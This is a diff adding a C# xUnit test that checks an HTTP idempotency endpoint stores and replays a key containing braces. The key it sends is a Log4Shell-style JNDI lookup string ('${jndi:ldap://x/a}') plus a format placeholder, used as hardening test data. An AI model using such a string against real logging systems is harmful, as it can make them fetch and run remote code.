@@ -59,6 +59,17 @@ public sealed class IdempotencyHttpTests(SiloHostFixture silo)
     }
 
     [Fact]
+    public async Task Post_WithBracesInTheKey_IsStoredAndReplayedLikeAnyOtherKey()
+    {
+        using var first = await silo.Http.SendAsync(AddItem("${jndi:ldap://x/a}{0}"));
+        using var retry = await silo.Http.SendAsync(AddItem("${jndi:ldap://x/a}{0}"));
+
+        Assert.Equal(HttpStatusCode.Created, first.StatusCode);
+        Assert.Equal(HttpStatusCode.OK, retry.StatusCode);
+        Assert.Single((await CartAsync()).Items);
+    }
+
+    [Fact]
     public async Task Post_WithAKeyOf256Characters_Answers400()
     {
         using var response = await silo.Http.SendAsync(AddItem(new string('k', 256)));
